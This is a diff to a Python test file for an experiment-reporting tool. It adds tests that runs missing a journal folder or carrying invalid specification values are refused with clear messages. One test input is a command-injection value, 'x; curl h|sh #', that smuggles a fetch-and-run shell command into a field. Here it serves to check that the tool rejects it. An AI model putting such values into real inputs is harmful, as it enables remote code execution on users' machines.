@@ -12,6 +12,7 @@ import io
 import json
 import math
 import os
+import shutil
 import tempfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -359,6 +360,8 @@ def _fits(datum: dict[str, Any]) -> bool:
 def unended(folder: Path) -> Path:
     """A run of `compare` that was killed after its blocks were measured."""
     parts = copy.deepcopy(RUNS[6])
+    parts["run"]["experiment"] = "compare"
+    agree(parts)
     run = write(parts, folder)
     (run / results.RUN_FILE).unlink()
     first = parts["blocks"][0]
@@ -390,6 +393,37 @@ def test_a_run_that_did_not_end_is_reported(tmp_path: Path) -> None:
     code, text = report(unended(tmp_path / "run"))
     assert code == 0
     assert text.startswith("No decision, the run is not complete: the run did not end, ")
+
+
+@pytest.mark.usefixtures("undrawn")
+def test_a_run_that_did_not_end_without_its_journal_is_refused_in_words(tmp_path: Path) -> None:
+    run = unended(tmp_path / "run")
+    shutil.rmtree(run / JOURNAL_FOLDER)
+    code, text = report(run)
+    assert code == 2
+    assert "given without journal/, allowed: with it; next: copy the whole folder of the ru" in text
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "message"),
+    [
+        ("experiment", "x; curl h|sh #", "experiment: given 'x; curl h|sh #', allowed: compare or"),
+        ("loads", [], "loads: given none, allowed: one or more"),
+    ],
+)
+@pytest.mark.parametrize("is_finished", [True, False])
+def test_a_run_that_no_command_began_is_refused_and_its_words_are_no_next_step(
+    key: str, value: object, message: str, is_finished: bool, tmp_path: Path
+) -> None:
+    run = unended(tmp_path / "run")
+    if not is_finished:  # the sentence on such a run has a command as its next step
+        shutil.rmtree(run / results.BLOCKS_FOLDER)
+    spec = json.loads((run / results.SPECIFICATION_FILE).read_bytes())
+    (run / results.SPECIFICATION_FILE).write_text(json.dumps(spec | {key: value}))
+    code, text = report(run)
+    assert code == 2
+    assert message in text
+    assert "draftworth x" not in text
 
 
 @tries(2_000, few=15)
